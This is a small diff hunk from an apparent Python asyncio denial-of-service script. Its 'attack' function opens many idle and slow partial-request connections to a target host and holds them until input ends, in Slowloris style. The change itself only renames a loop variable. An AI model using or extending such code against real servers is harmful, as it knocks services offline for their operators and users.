@@ -42,7 +42,7 @@ async def attack(host: str, port: int, idle: int, requests: list[dict[str, str]]
         for request in requests
     ]
     held = [hold(host, port, "idle", b"") for _ in range(idle)] + [hold(host, port, "slow", head) for head in heads]
-    tasks = [asyncio.ensure_future(each) for each in held]
+    tasks = [asyncio.ensure_future(connection) for connection in held]
     await asyncio.to_thread(sys.stdin.read)
     for task in tasks:
         task.cancel()
